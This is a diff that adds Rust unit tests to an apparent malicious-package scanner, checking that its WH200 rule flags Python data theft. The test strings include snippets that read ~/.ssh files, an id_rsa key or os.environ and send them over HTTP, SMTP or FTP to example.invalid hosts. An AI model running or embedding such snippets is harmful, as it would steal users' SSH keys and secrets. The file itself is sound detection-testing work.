@@ -599,4 +599,24 @@ mod tests {
             "import requests\nx = 'hello'\nrequests.post('https://example.invalid', data=x)\n";
         assert_eq!(max_severity("p/pkg/__init__.py", code, "WH200"), 0.0);
     }
+
+    #[test]
+    fn files_of_a_listed_credential_directory_flow_from_that_directory() {
+        let globbed = "import os, glob, requests\nfor f in glob.glob(os.path.expanduser('~/.ssh/*')):\n    requests.post('https://example.invalid/u', data=open(f).read())\n";
+        assert!(max_severity("p/pkg/__init__.py", globbed, "WH200") >= 0.6);
+        let listed = "import os, requests\nd = os.path.expanduser('~/.ssh')\nfor name in os.listdir(d):\n    requests.post('https://example.invalid/u', data=open(os.path.join(d, name)).read())\n";
+        assert!(max_severity("p/pkg/__init__.py", listed, "WH200") >= 0.6);
+        let plain = "import os, glob, requests\nfor f in glob.glob('data/*.json'):\n    requests.post('https://example.invalid/u', data=open(f).read())\n";
+        assert_eq!(max_severity("p/pkg/__init__.py", plain, "WH200"), 0.0);
+    }
+
+    #[test]
+    fn mail_and_ftp_sessions_are_network_sinks() {
+        let mail = "import os, smtplib\nfrom email.message import EmailMessage\nm = EmailMessage()\nm.set_content(str(dict(os.environ)))\ns = smtplib.SMTP('smtp.example.invalid', 587)\ns.send_message(m)\n";
+        assert!(max_severity("p/pkg/__init__.py", mail, "WH200") >= 0.6);
+        let ftp = "import ftplib, os\nftp = ftplib.FTP('ftp.example.invalid')\nftp.storbinary('STOR k', open(os.path.expanduser('~/.ssh/id_rsa'), 'rb'))\n";
+        assert!(max_severity("p/pkg/__init__.py", ftp, "WH200") >= 0.6);
+        let report = "import smtplib\nfrom email.message import EmailMessage\ndef notify(text):\n    m = EmailMessage()\n    m.set_content(text)\n    smtplib.SMTP('localhost').send_message(m)\n";
+        assert_eq!(max_severity("p/pkg/__init__.py", report, "WH200"), 0.0);
+    }
 }
